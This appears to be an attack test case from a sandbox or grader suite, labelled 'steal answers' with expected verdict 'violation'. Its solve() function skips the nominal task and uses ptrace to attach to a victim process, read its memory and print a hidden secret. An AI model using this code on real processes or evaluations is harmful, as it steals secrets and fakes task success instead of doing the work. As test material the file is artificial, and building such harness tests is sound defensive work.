"""Attaches to another process as a debugger and reads its memory"""

import ctypes
import os

ATTACK = {
    "group": "steal answers",
    "verdicts": ["violation"],
    "witness": "secret",
    "bound_s": 5,
}


PEEK, ATTACH, DETACH = 2, 16, 17


def solve(seed, x_batch, y_batch, lr):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_ulong
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(ATTACH, int("@VICTIM_PID@"), None, None) == 0:
        os.waitpid(int("@VICTIM_PID@"), 0x40000000)
        words = [
            libc.ptrace(PEEK, int("@VICTIM_PID@"), int("@VICTIM_ADDRESS@") + 8 * n, None) for n in range(4)
        ]
        libc.ptrace(DETACH, int("@VICTIM_PID@"), None, None)
        print(b"".join(word.to_bytes(8, "little") for word in words))
    return [0.0, 0.0]
